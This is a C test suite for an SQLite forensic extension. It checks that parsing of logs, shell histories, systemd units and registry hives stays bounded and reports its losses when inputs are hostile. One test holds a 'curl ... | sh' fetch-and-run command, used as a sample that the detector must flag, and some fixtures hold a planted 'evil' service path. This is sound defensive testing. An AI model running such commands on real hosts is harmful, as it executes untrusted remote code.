/* check_trust.c -- sources that a hostile user or disk prepares: each costs itself alone, the rows of
 * others come, and the loss is reported. `make attack` runs these. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "formats/text/input.h"
#include "harness.h"
#include "make_hive.h"
#include "root.h"
#include "svcql.h"

static struct harness_cost cost_before; /* the test, or before svcql reads what it has made */

static void begin_cost(void)
{
    cost_before = harness_cost();
}

static void end_cost(void)
{
    harness_expect_cost(&cost_before, "the test");
}

/* Write text at an offset of a file that may not be there yet; what is before it is a hole. */
static void write_at(const char *dir, const char *path, const char *text, off_t at)
{
    char full[4200];

    snprintf(full, sizeof full, "%s/%s", dir, path);
    int fd = open(full, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    ck_assert_int_ge(fd, 0);
    ck_assert_int_eq(pwrite(fd, text, strlen(text), at), (ssize_t)strlen(text));
    close(fd);
}

/* Another's files ---------------------------------------------------------------- */

/* What an ordinary user may not read is not read as empty: each source is denied, or a file of it counted, and
 * the rest comes. */
START_TEST(what_a_user_may_not_read_is_denied)
{
    static const struct {
        const char *path, *table;
    } denied[] = {
        {"etc/sudoers", "sudoers"},
        {"etc/passwd", "users"},
        {"etc/systemd/system/a.service", "unit_files"},
        {"etc/crontab", "cron_jobs"},
        {"etc/polkit-1/rules.d/1.rules", "polkit_rules"},
        {"root/.bash_history", "shell_history"},
        {"var/log/audit/audit.log", "audit_events"},
        {"var/log/auth.log", "auth_events"},
        {"var/log/journal/0123/system.journal", "journal"},
        {"var/log/dpkg.log", "package_history"},
        {"var/lib/dpkg/status", "package_files"},
    };
    const char *dir = harness_scratch(), *other = harness_scratch();
    char        path[4200];

    if (geteuid() == 0)
        SKIP("root may read everything");
    sqlite3 *db = harness_open();
    harness_write_text(other, "etc/hostname", "other\n");
    harness_write_text(other, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/bash\n");
    harness_write_text(dir, "etc/hostname", "here\n");
    for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
        harness_write_text(dir, denied[i].path, "x\n");
        snprintf(path, sizeof path, "%s/%s", dir, denied[i].path);
        ck_assert_int_eq(chmod(path, 0), 0);
    }
    harness_query(db, "DELETE FROM evidence");
    harness_query(db, "INSERT INTO evidence(location) VALUES('%s'), ('%s')", dir, other);
    for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
        harness_query(db, "SELECT * FROM \"%s\"", denied[i].table);
        harness_expect(db, "1",
                       "SELECT count(*) FROM evidence_sources WHERE table_name = '%s' AND "
                       "location IN ('%s/%s', '%s') AND (status = 'denied' OR skipped = 1)",
                       denied[i].table, dir, denied[i].path, dir);
    }
    harness_expect(db, "other|ann", "SELECT host, username FROM users");
    harness_close(db);
}
END_TEST

/* Holes ----------------------------------------------------------------------- */

static const char *two_homes(void)
{
    const char *dir = harness_scratch();

    harness_write_text(
        dir, "etc/passwd",
        "ann:x:1000:1000::/home/ann:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/sh\n");
    harness_write_text(dir, "home/ann/.bash_history", "first\n");
    harness_write_text(dir, "home/bob/.bash_history", "systemctl start x\n");
    return dir;
}

START_TEST(a_hole_in_a_history_costs_its_user_alone)
{
    sqlite3    *db = harness_open();
    const char *dir = two_homes();

    write_at(dir, "home/ann/.bash_history", "last\n", 60 << 20);
    begin_cost();
    harness_expect(db, "bob|systemctl start x",
                   "SELECT user, command FROM shell_history WHERE root = '%s' AND user = 'bob'",
                   dir);
    harness_expect(db, "first|1",
                   "SELECT min(command), count(*) = 2 FROM shell_history "
                   "WHERE root = '%s' AND user = 'ann'",
                   dir);
    harness_expect(db, "damaged|2|1|has holes, where nothing was written",
                   "SELECT status, records, skipped > 0, detail FROM evidence_sources "
                   "WHERE source = '%s/home/ann/.bash_history'",
                   dir);
    harness_close(db);
}
END_TEST

START_TEST(a_long_command_is_cut_and_counted)
{
    sqlite3    *db = harness_open();
    const char *dir = two_homes();
    size_t      size = 300 << 10;
    char       *text = malloc(size + 1);

    memset(text, 'x', size);
    text[size] = '\0';
    harness_write_text(dir, "home/ann/.bash_history", text);
    free(text);
    harness_expect(db, "131072",
                   "SELECT length(command) FROM shell_history WHERE root = '%s' "
                   "AND user = 'ann'",
                   dir);
    harness_expect(db, "1|commands longer than 128 KiB were cut",
                   "SELECT skipped, detail FROM evidence_sources "
                   "WHERE source = '%s/home/ann/.bash_history'",
                   dir);
    harness_close(db);
}
END_TEST

/* A terabyte of nothing between two lines. */
START_TEST(a_sparse_log_is_read_at_once)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();
    const char *first =
        "Nov 14 22:13:20 web sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; "
        "COMMAND=/usr/bin/systemctl start x\n";

    harness_write_text(dir, "auth.log", first);
    write_at(dir, "auth.log", "\n", (off_t)1 << 40);
    write_at(dir, "auth.log", first, ((off_t)1 << 40) + 1);
    harness_expect(db, "2",
                   "SELECT count(*) FROM auth_events('%s/auth.log') WHERE user IS NOT NULL", dir);
    harness_close(db);
}
END_TEST

/* Budgets --------------------------------------------------------------------- */

/* Ann floods what she may: 40 units of 500 settings, and a history of 20,000 commands. */
static const char *flood(void)
{
    const char *dir = two_homes();
    char       *unit = malloc(20000), *history = malloc(400000), path[200];
    size_t      n = (size_t)sprintf(unit, "[Service]\nExecStart=/bin/true\n"), m = 0;

    for (int i = 0; i < 498; i++)
        n += (size_t)sprintf(unit + n, "Environment=A%d=1\n", i);
    for (int i = 0; i < 40; i++) {
        snprintf(path, sizeof path, "home/ann/.config/systemd/user/a%02d.service", i);
        harness_write_text(dir, path, unit);
    }
    for (int i = 0; i < 20000; i++)
        m += (size_t)sprintf(history + m, "true %d\n", i);
    harness_write_text(dir, "home/ann/.bash_history", history);
    harness_write_text(dir, "home/ann/.zsh_history", history);
    free(unit);
    free(history);
    harness_write_text(dir, "home/bob/.config/systemd/user/b.service",
                       "[Service]\nExecStart=/bin/b\n");
    harness_write_text(dir, "etc/systemd/system/s.service", "[Service]\nExecStart=/bin/s\n");
    return dir;
}

/* What is beyond the budget of a source: its own rows, never those of others, and it is reported. */
START_TEST(a_source_beyond_its_budget_is_left_out_and_the_query_runs_on)
{
#define OVER "left out from here on: beyond the budget of a source"
    sqlite3    *db = harness_open();
    const char *dir = flood();

    harness_expect(db, "19962", "SELECT count(*) FROM unit_settings WHERE root = '%s'", dir);
    harness_query(db, "UPDATE svcql_settings SET value = '4000' WHERE name = 'source_rows'");
    harness_expect(db, "ann|1\nbob|1\nNULL|1",
                   "SELECT scope_user, count(*) BETWEEN 1 AND 1501 FROM unit_settings "
                   "WHERE root = '%s' GROUP BY 1 ORDER BY 1 NULLS LAST",
                   dir);
    harness_expect(db, "damaged|1|1",
                   "SELECT status, skipped, detail LIKE '%%; managers beyond the budget of a "
                   "source: 1%%' FROM evidence_sources WHERE table_name = 'unit_settings' AND "
                   "location = '%s'",
                   dir);
    harness_expect(db, "ann|1001\nbob|1",
                   "SELECT user, count(*) FROM shell_history WHERE root = '%s' GROUP BY 1", dir);
    harness_expect(db,
                   "/home/ann/.bash_history|damaged|" OVER "\n/home/ann/.zsh_history|damaged|" OVER
                   "\n"
                   "/home/bob/.bash_history|read|NULL",
                   "SELECT substr(source, %d), status, detail FROM evidence_sources "
                   "WHERE table_name = 'shell_history' AND source GLOB '%s/home/*_history' "
                   "ORDER BY 1",
                   (int)strlen(dir) + 1, dir);
    harness_close(db);
}
END_TEST

/* The same by bytes, of what gives no row; a log has the budget of a source for itself. */
START_TEST(a_budget_of_bytes_ends_a_log_without_rows)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();
    size_t      size = 8 << 20;
    char       *text = malloc(size + 1);

    for (size_t i = 0; i < size; i++)
        text[i] = i % 64 == 63 ? '\n' : 'x';
    text[size] = '\0';
    harness_write_text(dir, "a/auth.log", text);
    free(text);
    harness_write_text(
        dir, "b/auth.log",
        "Nov 14 22:13:20 web sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; "
        "COMMAND=/usr/bin/systemctl start x\n");
    harness_query(db, "UPDATE svcql_settings SET value = '2' WHERE name = 'source_megabytes'");
    harness_expect(db, "1", "SELECT count(*) FROM auth_events('%s/*/auth.log')", dir);
    harness_expect(db, "damaged|" OVER "\nread|NULL",
                   "SELECT status, detail FROM evidence_sources WHERE source GLOB '%s/*' "
                   "ORDER BY source",
                   dir);
    harness_close(db);
}
END_TEST

/* Time is counted while a source is read. */
START_TEST(a_budget_of_time_ends_a_slow_source)
{
    struct input_budget budget = {.ms = 40};
    struct input_scan   outer = input_scan_begin((struct input_scan){.budget = &budget});

    input_source(0);
    ck_assert(!input_over_budget());
    while (!input_over_budget())
        sched_yield();
    input_source(0);
    ck_assert(!input_over_budget());
    input_source(7);
    budget.spent = 11; /* a user has a quarter, for all sources of his in a row */
    ck_assert(input_over_budget());
    input_source(7);
    ck_assert(input_over_budget());
    input_source(8);
    ck_assert(!input_over_budget());
    input_scan_end(outer);
}
END_TEST

/* Unit files ------------------------------------------------------------------ */

/* systemd continues after any comment; parts of a file that are not read are counted. */
START_TEST(padding_hides_no_service)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();
    FILE       *file;
    char        path[4200];

    harness_write_text(dir, "etc/systemd/system/a.service", "[Service]\n");
    snprintf(path, sizeof path, "%s/etc/systemd/system/a.service", dir);
    file = fopen(path, "ae");
    ck_assert_ptr_nonnull(file);
    for (int i = 0; i < 400000; i++)
        fputs(i % 2 ? "# a comment that says nothing at all, but says it at length\n" : "\n  ;\n",
              file);
    fputs("ExecStart=/tmp/x\n", file);
    fclose(file);
    harness_write(dir, "etc/systemd/system/c.service", "\0\0\0", 3);
    harness_expect(
        db, "a.service|/tmp/x\nc.service|NULL",
        "SELECT name, exec_start FROM unit_files('%s') WHERE kind = 'unit' ORDER BY name", dir);
    harness_expect(db, "1",
                   "SELECT skipped FROM evidence_sources WHERE table_name = 'unit_files' "
                   "AND location = '%s'",
                   dir);
    harness_close(db);
}
END_TEST

/* A line of a comment that is too long for systemd ends the file, as there. */
START_TEST(a_comment_too_long_for_systemd_ends_the_file)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();
    size_t      size = 3 << 20;
    char       *text = malloc(size + 1);

    memset(text, '#', size);
    text[size] = '\0';
    memcpy(text, "[Service]\n", 10);
    memcpy(text + size - 18, "\nExecStart=/tmp/x\n", 18);
    harness_write_text(dir, "etc/systemd/system/a.service", text);
    free(text);
    harness_expect(db, "NULL|line 2: line of 1 MiB or more; systemd reads no further",
                   "SELECT exec_start, error FROM unit_files('%s') WHERE kind = 'unit'", dir);
    harness_close(db);
}
END_TEST

/* Lists ----------------------------------------------------------------------- */

/* Open a database that has a list before the extension is loaded: an SQLite code. */
static int open_with_list(const char *sql, sqlite3 **ret)
{
    char path[4200];

    harness_close(harness_open()); /* registers the extension for every connection */
    sqlite3_reset_auto_extension();
    snprintf(path, sizeof path, "%s/lists.db", harness_scratch());
    ck_assert_int_eq(sqlite3_open(path, ret), SQLITE_OK);
    ck_assert_int_eq(sqlite3_exec(*ret, sql, NULL, NULL, NULL), SQLITE_OK);
    sqlite3_close(*ret);
    sqlite3_auto_extension((void (*)(void))sqlite3_svcql_init);
    return sqlite3_open(path, ret);
}

START_TEST(a_kept_list_of_an_older_shape_is_filled)
{
    sqlite3 *db;

    ck_assert_int_eq(open_with_list("CREATE TABLE known_services(name TEXT, host TEXT);"
                                    "INSERT INTO known_services VALUES('x', NULL)",
                                    &db),
                     SQLITE_OK);
    harness_expect(db, "x|NULL|NULL", "SELECT * FROM known_services");
    harness_expect(db, "0", "SELECT count(*) FROM findings WHERE 0");
    harness_close(db);
}
END_TEST

START_TEST(a_list_of_another_shape_is_refused_by_name)
{
    sqlite3 *db;

    ck_assert_int_ne(open_with_list("CREATE TABLE known_services(label TEXT)", &db), SQLITE_OK);
    ck_assert_ptr_nonnull(strstr(sqlite3_errmsg(db),
                                 "the list known_services of the database main has no column "
                                 "name: add it with ALTER TABLE main.known_services ADD COLUMN "
                                 "name, or rename the list"));
    sqlite3_close(db);
}
END_TEST

/* Logs ------------------------------------------------------------------------ */

/* "ssh" would be a unit that never was. */
START_TEST(a_cut_audit_line_is_counted_and_no_event)
{
#define START(id, text)                                                                            \
    "type=SERVICE_START msg=audit(170000000" #id ".000:4" #id "): pid=1 uid=0 auid=4294967295 "    \
    "ses=4294967295 msg='" text
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    harness_write_text(dir, "audit.log",
                       START(1, "unit=cron comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
                                "hostname=? addr=? terminal=? res=success'\n")
                           START(2, "unit=ssh\n") START(3, "unit=a comm=\"systemd\" res=success'"));
    harness_expect(db, "41|cron.service\n43|a.service",
                   "SELECT serial, unit FROM audit_events('%s/audit.log') ORDER BY serial", dir);
    harness_expect(db, "1", "SELECT skipped FROM evidence_sources WHERE source = '%s/audit.log'",
                   dir);
    harness_close(db);
}
END_TEST

/* Registry -------------------------------------------------------------------- */

static void hive_with_value(const char *dir, const char *name, size_t size)
{
    struct made_hive *hive = make_hive();
    struct made_key  *key = make_hive_key(hive, "ControlSet001\\Services\\evil");
    uint8_t          *data = calloc(size, 1);

    for (size_t i = 0; i + 2 < size; i += 2)
        data[i] = 'x';
    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    make_hive_value(key, name, 1, data, size);
    make_hive_dword(key, "Type", 16);
    make_hive_dword(key, "Start", 2);
    make_hive_file(hive, dir, "Windows/System32/config/SYSTEM");
    make_hive_free(hive);
    free(data);
}

/* Its beginning is given, not NULL, which is what a value without data has. */
START_TEST(a_registry_value_too_large_is_cut_and_counted)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    hive_with_value(dir, "Blob", (16 << 20) + 4096);
    harness_query(db, "DELETE FROM evidence");
    harness_query(db, "INSERT INTO evidence(location) VALUES('%s')", dir);
    harness_expect(db, "16777216",
                   "SELECT length(data_raw) FROM registry WHERE name = 'Blob' AND key = "
                   "'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\evil'");
    harness_expect(
        db, "1|values above 16 MiB were cut",
        "SELECT skipped > 0, detail FROM evidence_sources WHERE table_name = 'registry'");
    harness_close(db);
}
END_TEST

START_TEST(triggers_of_megabytes_are_cut_and_counted)
{
    enum { N = 12, SIZE = 64 << 10 };
    sqlite3          *db = harness_open();
    const char       *dir = harness_scratch();
    struct made_hive *hive = make_hive();
    struct made_key  *service = make_hive_key(hive, "ControlSet001\\Services\\evil");
    char             *data = calloc(1, SIZE), path[100];

    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    make_hive_dword(service, "Start", 2);
    make_hive_dword(service, "Type", 16);
    for (int i = 0; i < N; i++) {
        snprintf(path, sizeof path, "ControlSet001\\Services\\evil\\TriggerInfo\\%02d", i);
        struct made_key *trigger = make_hive_key(hive, path);
        make_hive_dword(trigger, "Type", 1);
        make_hive_dword(trigger, "DataType0", 1);
        make_hive_value(trigger, "Data0", 3, data, SIZE);
    }
    make_hive_file(hive, dir, "Windows/System32/config/SYSTEM");
    make_hive_free(hive);
    free(data);
    begin_cost();
    harness_query(db, "DELETE FROM evidence");
    harness_query(db, "INSERT INTO evidence(location) VALUES('%s')", dir);
    harness_expect(db, "8",
                   "SELECT json_array_length(triggers) FROM registry_services WHERE name = 'evil'");
    harness_expect(db, "4",
                   "SELECT skipped FROM evidence_sources WHERE table_name = "
                   "'registry_services' AND status <> 'ready'");
    harness_close(db);
}
END_TEST

/* What judges a service looks at what Windows could start, and a little more. */
START_TEST(a_path_of_megabytes_costs_its_service_alone)
{
    sqlite3          *db = harness_open();
    const char       *dir = harness_scratch();
    struct made_hive *hive = make_hive();
    struct made_key  *key = make_hive_key(hive, "ControlSet001\\Services\\long");
    size_t            size = 8 << 20;
    char             *text = malloc(size + 1);

    for (size_t i = 0; i < size; i++)
        text[i] = "C:\\a b\\c d.exe %v% "[i % 19];
    text[size] = '\0';
    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    make_hive_string(key, "ImagePath", text);
    make_hive_dword(key, "Type", 16);
    make_hive_dword(key, "Start", 2);
    key = make_hive_key(hive, "ControlSet001\\Services\\evil");
    make_hive_string(key, "ImagePath", "C:\\Windows\\Temp\\evil.exe");
    make_hive_dword(key, "Type", 16);
    make_hive_dword(key, "Start", 2);
    text[200 << 10] = '\0';
    make_hive_string(make_hive_key(hive, "ControlSet001\\Control\\Session Manager\\Environment"),
                     "v", text);
    free(text);
    make_hive_file(hive, dir, "Windows/System32/config/SYSTEM");
    make_hive_free(hive);
    harness_query(db, "DELETE FROM evidence");
    harness_query(db, "INSERT INTO evidence(location) VALUES('%s')", dir);
    harness_expect(db, "0", "SELECT count(*) FROM findings WHERE 0");
    begin_cost();
    harness_expect(db, "evil|1\nlong|1",
                   "SELECT substr(subject, 50), severity = 'high' FROM findings ORDER BY 1");
    harness_expect(db, "1|values above 514 KiB were cut",
                   "SELECT skipped > 0, detail FROM evidence_sources WHERE table_name = "
                   "'registry_services'");
    harness_close(db);
}
END_TEST

/* Commands -------------------------------------------------------------------- */

/* Its middle contains nothing that runs; its length is a signal of its own. */
START_TEST(a_command_longer_than_any_is_judged_by_its_ends)
{
    static const struct {
        const char *text, *expected;
    } cases[] = {
        {"hex(zeroblob(131072))", "[]"},
        {"hex(zeroblob(131073))", "[\"obfuscated\"]"},
        {"'curl http://192.0.2.1/x | sh ' || hex(zeroblob(4000000))", "1"},
        {"hex(zeroblob(4000000)) || ' ; curl http://192.0.2.1/x | sh'", "1"},
    };
    sqlite3 *db = harness_open();

    for (size_t i = 0; i < 2; i++) {
        harness_expect(db, cases[i].expected, "SELECT pattern_signals('unix', %s)", cases[i].text);
        harness_expect(db, cases[i].expected, "SELECT pattern_signals('windows', %s)",
                       cases[i].text);
    }
    for (size_t i = 2; i < 4; i++)
        harness_expect(db, cases[i].expected,
                       "SELECT pattern_signals('unix', %s) LIKE '%%\"downloads\"%%'",
                       cases[i].text);
    harness_close(db);
}
END_TEST

/* As long as a pattern of SQLite's must not be: 50,000 bytes. What a log, a unit or a rule says is a text
 * everywhere, and no pattern. */
static const char *host_of_long_texts(void)
{
    const char *dir = harness_scratch();
    static char name[60001];
    char       *text = NULL;

    memset(name, 'A', sizeof name - 1);

    harness_write_text(dir, "etc/os-release", "ID=debian\n");
    harness_write_text(dir, "etc/hostname", "long\n");
    harness_write_text(dir, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/bash\n");
    harness_write_text(dir, "etc/systemd/system/odd.service", "[Service]\nExecStart=/tmp/odd\n");
    harness_write_text(dir, "var/lib/dpkg/status", "Package: a\nStatus: install ok installed\n\n");
    harness_write_text(dir, "var/lib/dpkg/info/a.list",
                       "/usr/lib/modules/6.1/kernel/a.ko\n/usr/bin/systemctl\n");
    harness_write_text(dir, "var/log/dpkg.log",
                       "2023-11-14 22:13:20 install nginx:amd64 <none> 1.0\n");
    ck_assert_int_gt(
        asprintf(&text,
                 "type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e syscall=59 success=yes "
                 "exit=0 items=1 ppid=1 pid=77 auid=1000 uid=0 euid=0 ses=3 comm=\"systemctl\" "
                 "exe=\"/usr/bin/systemctl\"\n"
                 "type=EXECVE msg=audit(1700000000.000:7): argc=3 a0=\"systemctl\" a1=\"stop\" "
                 "a2=\"%s\"\n"
                 "type=SERVICE_STOP msg=audit(1700000001.000:8): pid=1 uid=0 auid=4294967295 "
                 "ses=4294967295 msg='unit=x comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
                 "hostname=? addr=? terminal=? res=success'\n",
                 name),
        0);
    harness_write_text(dir, "var/log/audit/audit.log", text);
    free(text);
    ck_assert_int_gt(asprintf(&text,
                              "Nov 14 22:13:20 long sudo:     ann : TTY=pts/0 ; PWD=/home/ann ; "
                              "USER=root ; COMMAND=/usr/bin/systemctl start %s\n",
                              name),
                     0);
    harness_write_text(dir, "var/log/auth.log", text);
    free(text);
    ck_assert_int_gt(asprintf(&text, "systemd-run %s\nnet stop \"%s\"\n", name, name), 0);
    harness_write_text(dir, "home/ann/.bash_history", text);
    free(text);
    harness_write_text(dir, "etc/modules-load.d/a.conf", name);
    ck_assert_int_gt(asprintf(&text, "ann ALL=(root) NOPASSWD: /%s*\n", name), 0);
    harness_write_text(dir, "etc/sudoers", text);
    free(text);
    return dir;
}

START_TEST(a_long_text_of_a_log_is_no_pattern)
{
    sqlite3 *db = harness_open();

    harness_expect(db, "", "DELETE FROM evidence");
    harness_expect(db, "", "INSERT INTO evidence(location) VALUES ('%s')", host_of_long_texts());
    harness_expect(db, "1", "SELECT count(*) FROM findings WHERE subject GLOB '*/odd.service'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM service_commands WHERE length(target) = 60000 AND "
                   "tool = 'systemctl' AND verb = 'stop'");
    char *views = harness_query(db, "SELECT name FROM svcql_tables WHERE kind NOT IN ('table', "
                                    "'function', 'lists')");
    for (char *rest, *view = strtok_r(views, "\n", &rest); view; view = strtok_r(NULL, "\n", &rest))
        harness_int(db, "SELECT count(*) FROM (SELECT * FROM \"%s\")", view);
    free(views);
    harness_close(db);
}
END_TEST

START_TEST(wrappers_without_end_hide_no_command)
{
    static const struct {
        int         wrappers;
        const char *expected;
    } cases[] = {{4, "systemctl|start|0"}, {30, "systemctl|start|1"}, {200, "unknown|unknown|1"}};
    sqlite3 *db = harness_open();

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        harness_expect(db, cases[i].expected,
                       "WITH RECURSIVE d(n, c) AS (SELECT 0, 'systemctl start x' UNION ALL "
                       "SELECT n + 1, 'sudo ' || c FROM d WHERE n < %d) "
                       "SELECT u.value ->> 'tool', u.value ->> 'verb', u.value ->> 'obfuscated' "
                       "FROM d, json_each(service_command(c)) AS u WHERE n = %d",
                       cases[i].wrappers, cases[i].wrappers);
    harness_close(db);
}
END_TEST

/* What follows the last command that is read is reported as one call that is not. */
START_TEST(commands_beyond_the_limit_of_a_line_are_one_obfuscated_call)
{
    sqlite3 *db = harness_open();

    for (int n = 256; n <= 300; n += 44)
        harness_expect(db, n == 256 ? "256|systemctl|0" : "257|unknown|1",
                       "WITH RECURSIVE d(n, c) AS (SELECT 1, 'systemctl stop x' UNION ALL "
                       "SELECT n + 1, c || '; systemctl stop x' FROM d WHERE n < %d), "
                       "l(c) AS (SELECT service_command(c) FROM d WHERE n = %d) "
                       "SELECT json_array_length(c), c ->> '$[#-1].tool', "
                       "c ->> '$[#-1].obfuscated' FROM l",
                       n, n);
    harness_close(db);
}
END_TEST

/* A variable, its value or a here-document that is not kept may hide a command. */
START_TEST(what_the_reader_of_a_shell_text_does_not_keep_is_told)
{
    sqlite3 *db = harness_open();

    for (int n = 250; n <= 260; n += 10)
        harness_expect(db, n < 256 ? "systemctl|0" : "unknown|1",
                       "WITH RECURSIVE d(n, c) AS (SELECT 1, 'systemctl stop a' UNION ALL "
                       "SELECT n + 1, 'v' || n || '=1; ' || c FROM d WHERE n < %d), "
                       "l(c) AS (SELECT service_command(c) FROM d WHERE n = %d) "
                       "SELECT c ->> '$[#-1].tool', c ->> '$[#-1].obfuscated' FROM l",
                       n, n);
    harness_expect(db, "systemctl|0\nunknown|1",
                   "WITH l(n, c) AS (SELECT n, service_command('a=' || printf('%%.*c', n, 'x') || "
                   "'; systemctl stop b') FROM (SELECT 4096 AS n UNION ALL SELECT 4097)) "
                   "SELECT c ->> '$[#-1].tool', c ->> '$[#-1].obfuscated' FROM l ORDER BY n");
    harness_close(db);
}
END_TEST

/* The shell takes the last of them. */
START_TEST(histories_beyond_the_limit_of_a_startup_file_are_counted)
{
    sqlite3    *db = harness_open();
    const char *dir = two_homes();
    char       *text = malloc(40000);
    size_t      n = 0;

    for (int i = 0; i < 1001; i++)
        n += (size_t)sprintf(text + n, "HISTFILE=~/.h%d\n", i);
    harness_write_text(dir, "home/bob/.bashrc", text);
    harness_write_text(dir, "home/bob/.h999", "late\n");
    free(text);
    harness_expect(db, "late",
                   "SELECT command FROM shell_history WHERE root = '%s' AND source GLOB '*.h999'",
                   dir);
    harness_expect(
        db, "1|names more histories than are read",
        "SELECT skipped, detail FROM evidence_sources WHERE source = '%s/home/bob/.bashrc'", dir);
    harness_close(db);
}
END_TEST

/* Interrupts ------------------------------------------------------------------ */

static bool yes(void *data)
{
    ++*(int *)data;
    return true;
}

START_TEST(a_read_ends_with_the_query)
{
    int               calls = 0, fd = open("/dev/zero", O_RDONLY | O_CLOEXEC);
    char              byte;
    struct input_scan outer =
        input_scan_begin((struct input_scan){.interrupted = yes, .data = &calls});

    ck_assert_int_eq(input_read(fd, &byte, 1), -ECANCELED);
    ck_assert_int_eq(input_pread(fd, &byte, 1, 0), -ECANCELED);
    ck_assert(input_ended());
    ck_assert_int_eq(calls, 1);
    input_scan_end(outer);
    outer = input_scan_begin((struct input_scan){0});
    ck_assert_int_eq(input_read(fd, &byte, 1), 1);
    input_scan_end(outer);
    close(fd);
}
END_TEST

/* Bytes that this process has read. */
static int64_t bytes_read(void)
{
    long long bytes = -1;
    FILE     *file = fopen("/proc/self/io", "re");

    ck_assert_ptr_nonnull(file);
    ck_assert_int_eq(fscanf(file, "rchar: %lld", &bytes), 1);
    fclose(file);
    return bytes;
}

static int stop;

static void *interrupt(void *db)
{
    while (!__atomic_load_n(&stop, __ATOMIC_ACQUIRE)) {
        sqlite3_interrupt(db);
        usleep(1000);
    }
    return NULL;
}

/* No line of the log is an event, so that one step of the table would read all of it. */
START_TEST(an_interrupt_ends_a_step_of_a_table)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();
    char        line[] = "nothing that is known\n", path[4200];
    pthread_t   thread;

    snprintf(path, sizeof path, "%s/auth.log", dir);
    FILE *file = fopen(path, "we");
    ck_assert_ptr_nonnull(file);
    for (int i = 0; i < 2000000; i++)
        fputs(line, file);
    ck_assert_int_eq(fclose(file), 0);
    stop = 0;
    ck_assert_int_eq(pthread_create(&thread, NULL, interrupt, db), 0);
    char *sql = sqlite3_mprintf("SELECT count(*) FROM auth_events('%q')", path);
    /* An interrupt before the first step does not count: again until one did. */
    int     rc = SQLITE_OK;
    int64_t before = 0;
    for (int i = 0; i < 100 && rc != SQLITE_INTERRUPT; i++) {
        before = bytes_read();
        rc = sqlite3_exec(db, sql, NULL, NULL, NULL);
    }
    int64_t size = 2000000 * (int64_t)(sizeof line - 1);
    ck_assert_int_lt(bytes_read() - before, size / 2);
    __atomic_store_n(&stop, 1, __ATOMIC_RELEASE);
    pthread_join(thread, NULL);
    sqlite3_free(sql);
    ck_assert_int_eq(rc, SQLITE_INTERRUPT);
    harness_close(db);
}
END_TEST

/* Files that become shorter --------------------------------------------------- */

START_TEST(a_file_cut_while_it_is_read_is_zeros)
{
    const char     *dir = harness_scratch();
    struct root    *root;
    struct root_map map;
    size_t          size = 1 << 20;
    char           *text = malloc(size + 1), path[4200];

    memset(text, 'x', size);
    text[size] = '\0';
    harness_write_text(dir, "file", text);
    free(text);
    snprintf(path, sizeof path, "%s/file", dir);
    ck_assert_int_eq(root_open(dir, 0, &root), 0);
    ck_assert_int_eq(root_map_parts(root, "/file", size, &map), 0);
    ck_assert(root_map_load(&map, 0, 16));
    ck_assert_int_eq(truncate(path, 0), 0);
    ck_assert(root_map_load(&map, size - 16, 16));
    ck_assert_int_eq(map.data[0], 'x');
    ck_assert_int_eq(map.data[size - 1], 0);
    ck_assert(!root_map_load(&map, size - 8, 16));
    root_unmap(&map);
    root_unref(root);
}
END_TEST

Suite *make_trust_suite(void)
{
    Suite *suite = suite_create("trust");
    TCase *tcase = tcase_create("hostile");

    tcase_set_timeout(tcase, 30);
    tcase_add_checked_fixture(tcase, begin_cost, end_cost);
    tcase_add_test(tcase, what_a_user_may_not_read_is_denied);
    tcase_add_test(tcase, a_hole_in_a_history_costs_its_user_alone);
    tcase_add_test(tcase, a_long_command_is_cut_and_counted);
    tcase_add_test(tcase, a_sparse_log_is_read_at_once);
    tcase_add_test(tcase, a_source_beyond_its_budget_is_left_out_and_the_query_runs_on);
    tcase_add_test(tcase, a_budget_of_bytes_ends_a_log_without_rows);
    tcase_add_test(tcase, a_budget_of_time_ends_a_slow_source);
    tcase_add_test(tcase, padding_hides_no_service);
    tcase_add_test(tcase, a_comment_too_long_for_systemd_ends_the_file);
    tcase_add_test(tcase, a_kept_list_of_an_older_shape_is_filled);
    tcase_add_test(tcase, a_list_of_another_shape_is_refused_by_name);
    tcase_add_test(tcase, a_cut_audit_line_is_counted_and_no_event);
    tcase_add_test(tcase, a_registry_value_too_large_is_cut_and_counted);
    tcase_add_test(tcase, triggers_of_megabytes_are_cut_and_counted);
    tcase_add_test(tcase, a_path_of_megabytes_costs_its_service_alone);
    tcase_add_test(tcase, a_command_longer_than_any_is_judged_by_its_ends);
    tcase_add_test(tcase, wrappers_without_end_hide_no_command);
    tcase_add_test(tcase, commands_beyond_the_limit_of_a_line_are_one_obfuscated_call);
    tcase_add_test(tcase, what_the_reader_of_a_shell_text_does_not_keep_is_told);
    tcase_add_test(tcase, histories_beyond_the_limit_of_a_startup_file_are_counted);
    tcase_add_test(tcase, a_read_ends_with_the_query);
    tcase_add_test(tcase, an_interrupt_ends_a_step_of_a_table);
    tcase_add_test(tcase, a_file_cut_while_it_is_read_is_zeros);
    suite_add_tcase(suite, tcase);
    tcase = tcase_create("all views"); /* each in turn, with the memory that SQLite keeps */
    tcase_set_timeout(tcase, 60);
    tcase_add_test(tcase, a_long_text_of_a_log_is_no_pattern);
